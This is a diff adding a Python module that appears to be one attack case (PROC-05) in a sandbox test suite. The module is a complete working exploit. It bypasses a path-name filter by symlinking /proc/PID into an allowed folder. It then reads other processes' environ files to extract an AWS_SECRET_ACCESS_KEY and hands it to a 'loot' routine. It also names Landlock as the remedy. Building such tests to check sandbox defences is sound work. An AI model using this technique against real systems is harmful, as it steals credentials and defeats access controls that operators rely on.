@@ -1,0 +1,57 @@
+# SPDX-License-Identifier: MIT
+"""Goal:  the worker's credentials, past a filter that allows the student's own folder by its name.
+Means: a symbolic link in a folder of the student's that leads to /proc/PID. The name that is opened
+       begins with the allowed folder; the file is the worker's.
+"""
+
+import os
+import tempfile
+
+from attack import DONE, attempting, denied, loot
+
+
+def neighbours(first):
+    """The worker, then every process in /proc but this one."""
+    try:
+        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+    except OSError:
+        seen = []
+    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
+
+
+def credential(path):
+    """The credential in an environ file, or None."""
+    with open(path, "rb") as file:
+        for entry in file.read().split(b"\0"):
+            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
+                return entry
+    return None
+
+
+def run(brief):
+    why = "nobody else in sight"
+    with tempfile.TemporaryDirectory() as folder:
+        attempting()
+        for pid in neighbours(brief.worker):
+            link = f"{folder}/{pid}"
+            try:
+                os.symlink(f"/proc/{pid}", link)
+                found = credential(f"{link}/environ")
+            except OSError as error:
+                why = error
+                continue
+            if found:
+                loot(found)
+                return DONE
+    return denied("a symbolic link to /proc/PID", why)
+
+
+ATTACK = {
+    "effect": "the worker's environment is read through /proc",
+    "means": "a symbolic link in the student's own folder to /proc/PID",
+    "oracle": "secret:environ",
+    "id": "PROC-05",
+    "attack_id": "T1057, T1003.007, CWE-59",
+    "remedy": "Landlock without /proc, which judges the file and not its name",
+    "run": run,
+}
